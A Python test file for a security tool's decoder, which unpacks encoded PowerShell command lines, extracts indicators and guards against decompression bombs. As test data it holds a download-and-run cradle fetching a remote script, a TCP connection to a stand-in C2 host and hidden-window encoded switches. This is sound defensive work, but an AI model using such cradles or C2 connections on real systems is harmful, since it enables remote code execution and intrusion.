"""What is read out of encoded command lines."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clew.entities import Domain, File, Finding, IpAddress, Outcome, Process, Relation, Url, Verdict
from clew.providers.base import Steps
from clew.providers.local.command_line import Decoder
from clew.transforms.command_lines import LIMITS
from clew.transforms.encodings import decode_text
from tests.support import HOSTILE, hiding

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7:8080/a.ps1')"


def b64(text: str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def finding(steps: Steps | Finding) -> Finding:
    assert isinstance(steps, Finding)
    return steps


def decoded(line: str | None) -> Finding:
    """What is read out of a command line."""
    process = Process("b34bc01c-7fae-5f63-1000-000000000400", host="ws01", command_line=line)
    return finding(Decoder.process.steps(process))


@pytest.mark.parametrize(
    "switch",
    ["-EncodedCommand", "-enc", "-e", "-E", "-ec", "/enc", "-eNcOd", "\u2013enc", "\u2014e", "-w hidden -nop -enc"],
)
@pytest.mark.parametrize("form", ["{} {}", '{} "{}"', "{} '{}'", "{}  {}", "{}:{}"])
def test_an_encoded_command_is_decoded(switch, form):
    """Every spelling of the switch that PowerShell takes gives the script, and the address and URL in it."""
    found = decoded("powershell.exe " + form.format(switch, b64(SCRIPT)))
    assert found.fact("decoded") == SCRIPT
    assert (found.outcome, found.verdict) == (Outcome.FOUND, Verdict.SUSPICIOUS)
    assert found.entities == (Url("http://198.51.100.7:8080/a.ps1"), IpAddress("198.51.100.7"))
    assert {(link.relation, link.inferred) for link in found.links} == {(Relation.DECODED_TO, True)}


def test_layers_are_decoded():
    """Base64 inside the script, plain, deflated or zipped, is decoded too, down to a depth."""
    inner = "$u = 'https://evil.example/x'; # " + "padding " * 20
    for packed in (inner.encode(), zlib.compress(inner.encode())[2:-4], gzip.compress(inner.encode(), mtime=0)):
        script = f"$b = [Convert]::FromBase64String('{base64.b64encode(packed).decode()}')"
        found = decoded(f"powershell -enc {b64(script)}")
        assert str(found.fact("decoded")).endswith(f"\n\n{inner}")
        assert set(found.entities) == {Url("https://evil.example/x"), Domain("evil.example")}
    deep = inner
    for _ in range(6):
        deep = f"x '{b64(deep, 'utf-8')}'"
    assert decoded(f"powershell -e {b64(deep)}").fact("layers") == LIMITS.depth


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (None, "its command line is not known"),
        ("notepad.exe a.txt", "no encoded command"),
        ("powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1", "no encoded command"),
        ("powershell -Exec BypassBypass", "no encoded command"),
        ("powershell -enc ////////////////", "no encoded command"),
        ("powershell -enc AAAAAAAAAAAA", "no encoded command"),
        ("net use /e ABCDEFGHIJ", "no encoded command"),
    ],
)
def test_what_is_not_encoded_is_nothing(line, why):
    """A plain command line is no finding, and no verdict."""
    found = decoded(line)
    assert (found.outcome, found.verdict, found.reason) == (Outcome.NOTHING, Verdict.UNKNOWN, why)


@pytest.mark.parametrize("value", [value for value in HOSTILE if "\ud800" not in value], ids=range(31))
def test_hostile_scripts_are_text(value):
    """What is decoded is shown as text."""
    found = decoded(f"powershell -enc {b64('Write-Host 0123456789 ' * 20 + value)}")
    assert value.strip("\0\ufeff") in str(found.fact("decoded")) or found.outcome is Outcome.NOTHING
    assert hiding(str(found)) == set()


def test_a_bomb_is_bounded():
    """Layers that unpack to a hundred each are tried up to a number, and the cut is told."""

    def packed(text: str) -> str:
        return f"'{base64.b64encode(zlib.compress(text.encode())[2:-4]).decode()}' "

    line = packed(packed(packed("A" * 2**19) * 100) * 100)
    begun = time.process_time()
    found = decoded(f"powershell -enc {b64(line * 4)}")
    assert time.process_time() - begun < 10
    assert sum(len(str(fact.value)) for fact in found.facts) < 64 * 2**20
    assert (found.truncated_by, found.available) == (f"{LIMITS.tries} encoded texts", None)
    assert len(found) <= LIMITS.tries


@pytest.mark.parametrize("part", ["-e", "-en", "'A", "A" * 15 + "'", "http://", "1.", "-e ", "'" + "A" * 16])
def test_time_grows_with_the_text(part):
    """Twice the text is about twice the time: no part of a command line makes the patterns go astray."""

    def seconds(size: int) -> float:
        line = "powershell -enc " + b64("x '" + part * size)
        begun = time.process_time()
        decoded(line + part * size)
        return time.process_time() - begun

    assert seconds(20_000) < 1 + 20 * seconds(2_000)


@given(st.one_of(st.text(), st.binary().map(lambda data: base64.b64encode(data).decode())))
def test_no_text_breaks_the_decoder(text):
    """Anything at all decodes to text or to nothing, and any command line ends in a finding."""
    assert isinstance(decode_text(text), str)
    assert decoded(f"powershell -enc {text}").outcome in (Outcome.FOUND, Outcome.NOTHING)


def test_indicators_are_found_wherever_they_stand():
    """What a script names is found defanged, in quotes, in paths, URLs and calls; a member of a variable is no name."""
    script = (
        "$c = New-Object Net.Sockets.TCPClient('c2.evil.example', 443); $p.id; $x.name; ping 203.0.113.7; "
        "copy \\\\x\\198.51.100.9\\s; irm 'hxxp://evil[.]example/?ip=192.0.2.1'; f d41d8cd98f00b204e9800998ecf8427e"
    )
    assert set(decoded(f"powershell -enc {b64(script)}").entities) == {
        Domain("c2.evil.example"),
        IpAddress("203.0.113.7"),
        IpAddress("198.51.100.9"),
        Url("http://evil.example/?ip=192.0.2.1"),
        Domain("evil.example"),
        IpAddress("192.0.2.1"),
        File("d41d8cd98f00b204e9800998ecf8427e"),
    }
